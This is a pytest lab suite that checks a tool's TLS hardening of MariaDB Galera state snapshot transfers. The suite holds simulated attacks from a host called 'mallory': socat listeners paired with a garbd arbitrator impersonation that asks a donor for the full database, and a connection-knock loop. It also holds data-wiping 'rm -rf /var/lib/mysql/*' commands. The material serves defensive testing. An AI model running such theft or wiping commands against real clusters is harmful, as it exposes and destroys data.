"""State transfers on real hosts: turned to TLS while the applications write, looked at on the wire by each method, robbed, and killed."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from galvan import lab
from galvan.edges.wire import clear
from galvan.model import Outcome

from .operator import Operator, hashes, restarts, synced, wait

pytestmark = pytest.mark.lab
TIP = ("--tip", "sst_tls")
METHODS = ("mariabackup", "rsync", "secure_rsync")
MODES = "stat -c '%a %U %n' /usr/bin/wsrep_sst_*; dpkg-statoverride --list | grep wsrep || true"
MARKER = "galvan-marker-in-a-row"
WIPED = "systemctl stop mariadb; rm -rf /var/lib/mysql/*; "
LEFT = (
    "pgrep -af '[s]ocat|[s]tunnel|[r]sync|[m]ariabackup|[w]srep_sst_' || true; "
    "ls -d /tmp/galvan-sst.* /var/lib/mysql/*sst* /var/lib/mysql/stunnel* /var/lib/mysql/rsync* 2>/dev/null || true"
)


@pytest.fixture(scope="module")
def transfers(operator: Operator) -> Operator:
    lab.execute("db1", f"mariadb -e \"CREATE TABLE app.said (t TEXT); INSERT INTO app.said VALUES ('{MARKER}')\"")
    return operator


@contextmanager
def tapped(host: str, ports: str) -> Iterator[Path]:
    file = "/tmp/tap.pcap"
    tap = f"timeout -s INT 120 tcpdump --immediate-mode -i any -n -U -B 8192 -s 0 -w {file} '{ports}' >/dev/null 2>&1"
    begun = f"until [ -s {file} ]; do sleep 0.1; done; sleep 0.5"
    lab.execute(host, f'rm -f {file}; systemd-run --quiet --collect --unit=tap sh -c "{tap}"; {begun}', limit=30)
    try:
        yield Path(file)
    finally:
        lab.execute(host, f"systemctl stop tap; chmod 644 {file}")


def seen_on(host: str, file: Path, port: int) -> Outcome:
    pcap = bytes.fromhex(lab.execute(host, f"od -An -v -tx1 {file} | tr -d ' \\n'", limit=120))
    trial = clear.verdict(pcap, (port,), MARKER)
    print(trial.seen)
    return trial.outcome


def copied(host: str, limit: int = 170) -> str:
    """The member loses everything and gets it anew; what its log says of it."""
    began = int(time.time())
    lab.execute(host, f"{WIPED}timeout {limit - 10} systemctl start mariadb", limit=limit)
    wait(synced)
    return lab.execute(host, f"journalctl -u mariadb -o cat --no-pager --since @{began}")


def address(name: str) -> str:
    return next(host.address for host in lab.current().hosts if host.name == name)


def holds_the_marker(host: str) -> bool:
    return MARKER in lab.execute(host, "mariadb -N -e 'SELECT t FROM app.said'")


def test_the_open_cluster_sends_everything_in_clear_text(transfers: Operator) -> None:
    with tapped("db3", "tcp port 4444") as file:
        copied("db3")
    assert seen_on("db3", file, 4444) is Outcome.CLEAR
    seen = transfers.json("verify", *TIP, code=3)
    assert {proof["verdict"] for proof in seen["proofs"]} == {"fail"}


ASKED = {
    "mariabackup": ":4444/xtrabackup_sst//1", "rsync": ":4444/rsync_sst", "secure_rsync": ":4444/data", "backup": ":4444",
    "mysqldump": ":3306",
}  # fmt: skip
"""What a joiner of each method puts after its address."""


def stolen(method: str) -> int:
    """How many bytes a stranger got who says that it is an arbitrator and asks a donor for everything, by this method. A donor of
    mariabackup's waits ten seconds before it sends."""
    seconds = 16 if method == "mariabackup" else 6
    me, members = address("mallory"), f"{address('db2')},{address('db3')}"
    lab.execute(
        "mallory",
        "rm -rf /tmp/loot; mkdir /tmp/loot; cd /tmp/loot\n"
        "for p in 4444 3306; do socat -u TCP-LISTEN:$p,reuseaddr,fork OPEN:/tmp/loot/took,creat,append & done\n"
        f"timeout -s INT 10 garbd -a gcomm://{members} -g lab --donor db2 --sst {method}:{me}{ASKED[method]} >/tmp/loot/log 2>&1\n"
        f"sleep {seconds}; kill $(jobs -p); grep -q 'Sending state transfer request' /tmp/loot/log",
        limit=60,
    )
    wait(synced, 60)
    return int(lab.execute("mallory", "stat -c %s /tmp/loot/took 2>/dev/null || echo 0"))


def test_a_stranger_takes_the_whole_of_it(transfers: Operator) -> None:
    """The control of the theft that fails later: the same words, the same place."""
    assert stolen("mariabackup") > 1_000_000


def test_it_turns_while_the_applications_write(transfers: Operator) -> None:
    began, before = time.time(), {host.name: lab.execute(host.name, MODES) for host in lab.current().databases}
    untouched = hashes()
    lab.start_load(writers=8)
    try:
        ended = transfers.json("apply", *TIP, "--auto-approve")
        back = transfers.json("rollback", "--auto-approve")
        assert (ended["status"], back["status"]) == ("done", "done")
        assert hashes() == untouched
        assert {host.name: lab.execute(host.name, MODES) for host in lab.current().databases} == before
        assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
    finally:
        report = lab.stop_load()
    assert (report.failed, report.lost, report.equal) == (0, 0, True), report
    assert restarts(began) == {"db1": 0, "db2": 0, "db3": 0}
    assert transfers.json("audit", *TIP)["rungs"] == {"sst_tls": "enforced"}
    assert {proof["verdict"] for proof in transfers.json("verify", *TIP)["proofs"]} == {"pass"}


@pytest.mark.parametrize("method", METHODS)
def test_a_full_and_an_incremental_transfer(transfers: Operator, method: str) -> None:
    transfers.govern(f"{{sst: {{method: {method}}}}}")
    assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
    assert transfers.json("audit", *TIP)["rungs"]["sst_tls"] in ("enforced", "proven")
    with tapped("db3", "tcp port 4444") as file:
        log = copied("db3")
    assert f"wsrep_sst_{method} --role" in log
    assert seen_on("db3", file, 4444) is Outcome.ENCRYPTED
    assert holds_the_marker("db3")
    assert lab.execute("db3", LEFT).strip() == ""
    began = int(time.time())
    with tapped("db3", "tcp port 4444") as file:
        lab.execute("db3", "systemctl stop mariadb")
        lab.execute(
            "db1",
            "mariadb app -e 'CREATE OR REPLACE TABLE app.more (n INT PRIMARY KEY); INSERT INTO app.more SELECT seq FROM seq_1_to_500'",
        )
        lab.execute("db3", "systemctl start mariadb")
        wait(synced)
    log = lab.execute("db3", f"journalctl -u mariadb -o cat --no-pager --since @{began}")
    assert "Receiving IST" in log or "IST received" in log, log[-3000:]
    assert seen_on("db3", file, 4444) in (Outcome.ENCRYPTED, Outcome.DEAD)  # the way past a dump may carry nothing


@pytest.mark.parametrize("method", [*ASKED])
def test_a_stranger_gets_nothing_by_any_method(transfers: Operator, method: str) -> None:
    """It is let into the group still (replication is in clear text here), and asks for each."""
    assert stolen(method) < 3000


@contextmanager
def hidden(program: str, *hosts: str) -> Iterator[None]:
    for host in hosts:
        lab.execute(host, f"mv {program} {program}.hidden")
    try:
        yield
    finally:
        for host in hosts:
            lab.execute(host, f"mv {program}.hidden {program}")


@pytest.mark.parametrize("lacking", [("db1", "db2"), ("db3",), ("db1", "db2", "db3")], ids=["donors", "joiner", "all"])
def test_galvans_own_script_speaks_with_either_pipe(transfers: Operator, lacking: tuple[str, ...]) -> None:
    """stunnel where it is there, else socat; the ends need not be alike."""
    with hidden("/usr/bin/stunnel", *lacking):
        watch = "until pgrep -af '[O]PENSSL-LISTEN:4444|[s]tunnel /tmp/galvan-sst' >/tmp/pipe; do sleep 0.05; done"
        lab.execute("db3", f'rm -f /tmp/pipe; systemd-run --quiet --collect --unit=pipe sh -c "{watch}"')
        with tapped("db3", "tcp port 4444") as file:
            log = copied("db3")
    assert "wsrep_sst_secure_rsync --role" in log
    assert ("OPENSSL-LISTEN" if "db3" in lacking else "stunnel") in lab.execute(
        "db3", "systemctl stop pipe; cat /tmp/pipe"
    )
    assert seen_on("db3", file, 4444) is Outcome.ENCRYPTED
    assert holds_the_marker("db3")
    for host in lab.current().databases:
        assert lab.execute(host.name, LEFT).strip() == ""


@pytest.mark.parametrize("lacking", [(), ("db1", "db2", "db3")], ids=["stunnel", "socat"])
def test_a_stranger_at_the_joiners_port_neither_reads_nor_ends_it(
    transfers: Operator, lacking: tuple[str, ...]
) -> None:
    """With Galvan's own script a knock ends nothing: the transfer goes on beside it."""
    at = f"{address('db3')}:4444"
    lab.execute(
        "mallory",
        "rm -f /tmp/knocks; cat >/tmp/knock <<'END'\n"
        f"for i in $(seq 300); do timeout 1 openssl s_client -connect {at} </dev/null; echo hello | timeout 1 socat - TCP:{at}; sleep 0.05; done\n"
        "END\nsystemd-run --quiet --collect --unit=knock sh -c 'sh /tmp/knock >/tmp/knocks 2>&1'",
    )
    try:
        with hidden("/usr/bin/stunnel", *lacking):
            log = copied("db3")
    finally:
        lab.execute("mallory", "systemctl stop knock")
    assert log.count("requesting state transfer failed") == 0
    assert lab.execute("mallory", f"grep -c {MARKER} /tmp/knocks || true").strip() == "0"
    assert "CONNECTED" in lab.execute("mallory", "cat /tmp/knocks")
    assert holds_the_marker("db3")


def test_without_its_key_the_script_ends_and_opens_nothing(transfers: Operator) -> None:
    lines = "[sst]\\ntca=/etc/mysql/galvan/cluster/ca.pem\\ntcert=/etc/mysql/galvan/cluster/cert.pem\\n"
    said = lab.execute(
        "db1",
        f"printf '{lines}' >/tmp/lacking.cnf; mkdir -p /tmp/nowhere\n"
        "timeout 20 wsrep_sst_secure_rsync --role joiner --address 127.0.0.1:4999 --datadir /tmp/nowhere --defaults-file /tmp/lacking.cnf "
        "--parent $$ --a-new-one 7 2>&1; echo ended $?; ss -Hltn 'sport = :4999'; ls -A /tmp/nowhere; rm -r /tmp/nowhere",
    )
    assert "key, certificate and authority are needed" in said
    assert said.rstrip().endswith("ended 22"), said


@pytest.mark.parametrize("lacking", [(), ("db1",)], ids=["stunnel", "socat"])
def test_a_listener_that_a_kill_left_does_not_keep_the_port(transfers: Operator, lacking: tuple[str, ...]) -> None:
    """Nothing but the script is killed, ten times; the next one begins at once, and has the port."""
    ours = "/etc/mysql/galvan/cluster"
    with hidden("/usr/bin/stunnel", *lacking):
        said = lab.execute(
            "db1",
            f"printf '[sst]\\ntca={ours}/ca.pem\\ntcert={ours}/cert.pem\\ntkey={ours}/key.pem\\n' >/tmp/whole.cnf; mkdir -p /tmp/nowhere\n"
            "for i in 1 2 3 4 5 6 7 8 9 10; do\n"
            "  wsrep_sst_secure_rsync --role joiner --address 127.0.0.1:4999 --datadir /tmp/nowhere --defaults-file /tmp/whole.cnf "
            "--parent $$ >/tmp/said 2>&1 & script=$!\n"
            "  until grep -q ready /tmp/said || ! kill -0 $script 2>/dev/null; do sleep 0.05; done\n"
            "  cat /tmp/said; [ $i = 10 ] && kill $script || kill -9 $script; wait $script\n"
            "done\n"
            "ss -Hltn 'sport = :4999'; ls -d /tmp/galvan-sst.* 2>/dev/null; rm -r /tmp/nowhere /tmp/whole.cnf",
            limit=60,
        )
    assert said.count("ready joiner:") == 10, said
    assert "ERROR" not in said
    assert "LISTEN" not in said
    assert "/tmp/galvan-sst" not in said


def filled(megabytes: int) -> None:
    """Incompressible rows, so that a transfer lasts."""
    lab.execute(
        "db1",
        'mariadb -e "CREATE OR REPLACE TABLE app.bulk (n INT PRIMARY KEY, b LONGBLOB);'
        "\"; mariadb app -e '"
        + "".join(
            f"INSERT INTO bulk SELECT {part}*1000+s.seq, CONCAT(RANDOM_BYTES(1024),{','.join(['RANDOM_BYTES(1024)'] * 15)}) "
            f"FROM seq_1_to_999 s;"
            for part in range(1, megabytes // 16 + 1)
        )
        + "'",
        limit=300,
    )


@pytest.mark.parametrize("method", METHODS)
@pytest.mark.parametrize("end", ["joiner", "donor"])
def test_killed_in_the_middle_the_next_attempt_succeeds(transfers: Operator, method: str, end: str) -> None:
    transfers.govern(f"{{sst: {{method: {method}}}}}")
    assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
    if end == "joiner" and method == METHODS[0]:
        filled(160)
    lab.execute("db3", f"{WIPED}systemctl start --no-block mariadb")
    wait(lambda: any(at_work(host) for host in ("db1", "db2")), 60)
    donor = next(host for host in ("db1", "db2") if at_work(host))
    victim = donor if end == "donor" else "db3"
    # the joiner ends when its donor does; with the donor's server dead too the third would be alone, and rightly serve nobody
    server = "" if end == "donor" else "pkill -9 mariadbd; "
    lab.execute(victim, f"pkill -9 -f 'mariadb-backup|mariabackup|[s]ocat|[r]sync|[w]srep_sst_'; {server}true")
    if method == "rsync":  # its script leaves half a data directory, which no start gets past: an operator empties it
        lab.execute("db3", "systemctl stop mariadb; rm -rf /var/lib/mysql/*")
    for host in (victim, "db3"):
        lab.execute(host, "systemctl reset-failed mariadb; systemctl start --no-block mariadb", limit=60)
    wait(lambda: recovered(victim), 240)
    for host in lab.current().databases:
        wait(lambda name=host.name: lab.execute(name, LEFT).strip() == "", 20)  # type: ignore[misc]
    assert holds_the_marker("db3")


def at_work(host: str) -> bool:
    return bool(lab.execute(host, "pgrep -f '[w]srep_sst_[a-z_]* --role .?donor' || true").strip())


def recovered(victim: str) -> bool:
    """A server that gave up is started again, as an operator would: the next attempt is what is tried."""
    for host in {victim, "db3"}:
        lab.execute(
            host,
            "systemctl is-active -q mariadb || systemctl show mariadb -p ActiveState | grep -q activating || systemctl start --no-block mariadb",
        )
    return synced()


def test_a_loop_of_members_that_differ_is_seen_and_healed(transfers: Operator) -> None:
    """Somebody takes one host's lines away by hand; the member that then needs its data cannot join, and asks again and again.
    `apply` is refused while a member does not run; `node heal` gives it the others' lines. Where the lines are not why, it says so."""
    transfers.govern("{sst: {method: mariabackup}}")
    assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
    file = "/etc/mysql/mariadb.conf.d/zz-galvan.cnf"
    lab.execute("db3", f"cp {file} /root/ours; sed -i '/encrypt = /d; s/VERIFY_CA/DISABLED/' {file}")
    lab.execute("db3", f"{WIPED}systemctl start --no-block mariadb")
    time.sleep(15)
    found = {f["check"] for f in transfers.json("audit", *TIP, code=4)["findings"] if f["verdict"] == "fail"}
    assert "sst_tls.one-way" in found
    assert "no server answers" in transfers.run("apply", *TIP, "--auto-approve").stderr
    healed = transfers.run("node", "heal", "db3")
    assert healed.returncode == 0, healed.stdout + healed.stderr
    assert synced()
    assert holds_the_marker("db3")
    assert [f["check"] for f in transfers.json("audit", *TIP)["findings"] if f["verdict"] == "fail"] == []
    assert "the server of db3 answers" in transfers.run("node", "heal", "db3").stderr
    lab.execute("db3", "systemctl stop mariadb")
    assert "makes transfers as the others do" in transfers.run("node", "heal", "db3").stderr
    lab.execute("db3", "systemctl start mariadb", limit=120)
    wait(synced)


def test_a_shut_script_stays_shut_over_an_upgrade_where_there_is_no_dpkg(transfers: Operator) -> None:
    """As on a host of Red Hat's: the list of modes is hidden, and a new file takes the script's place as rpm would put it there."""
    real, unit = "/usr/bin/wsrep_sst_mysqldump", "galvan-wsrep-sst-mysqldump"
    transfers.govern("{sst: {method: mariabackup, also: [mysqldump]}}")
    assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
    before = lab.execute("db2", f"stat -c '%a %U' {real}; sha256sum {real}")
    assert before.startswith("755"), "a method that is asked for later is opened again"
    with hidden("/usr/bin/dpkg-statoverride", "db2"):
        transfers.govern("{sst: {method: mariabackup}}")
        assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"
        assert lab.execute("db2", f"systemctl is-active {unit}.path").strip() == "active"
        for _ in range(8):
            lab.execute("db2", f"cp -p {real} {real}.new; chmod 755 {real}.new; mv -f {real}.new {real}")
            wait(lambda: lab.execute("db2", f"stat -c %a {real}").strip() == "644", 10)
        lab.execute("db2", f"chmod 755 {real}")
        wait(lambda: lab.execute("db2", f"stat -c %a {real}").strip() == "644", 10)
        assert lab.execute("db2", f"systemctl is-active {unit}.path").strip() == "active", "it still looks"
        assert transfers.json("rollback", "--auto-approve")["status"] == "done"
        assert lab.execute("db2", f"stat -c '%a %U' {real}; sha256sum {real}") == before
        assert lab.execute("db2", f"ls /etc/systemd/system/{unit}.* 2>/dev/null || true").strip() == ""
    assert transfers.json("apply", *TIP, "--auto-approve")["status"] == "done"


def settled() -> bool:
    """Debian has a server that has just started upgraded in the background, and under its DDL Galvan stops none."""
    upgrading = "pgrep -f '[m]ariadb-upgrade|[m]ysql_upgrade|[d]ebian-start' || true"
    return synced() and not any(lab.execute(host.name, upgrading).strip() for host in lab.current().databases)


def test_forced_by_the_operator_it_is_proven(transfers: Operator) -> None:
    wait(settled)
    done = transfers.run("verify", *TIP, "--force-sst", "db3")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "only TLS" in done.stdout


def test_galvan_killed_in_a_forced_transfer_and_the_next_attempt_succeeds(transfers: Operator) -> None:
    """The member's own start goes on without it, and nobody looks on any longer; it is still out of the balancer, and the next run
    that ends puts it back."""
    running = transfers.start("verify", *TIP, "--force-sst", "db3")
    try:
        wait(lambda: any(at_work(host) for host in ("db1", "db2")), 90)
    finally:
        running.kill()
        running.communicate()
    wait(settled, 240)
    onlookers = "; pgrep -ax tcpdump || true"
    for host in lab.current().databases:
        wait(lambda name=host.name: lab.execute(name, LEFT + onlookers).strip() == "", 60)  # type: ignore[misc]
    again = transfers.run("verify", *TIP, "--force-sst", "db3")
    assert again.returncode == 0, again.stdout + again.stderr
    assert "only TLS" in again.stdout
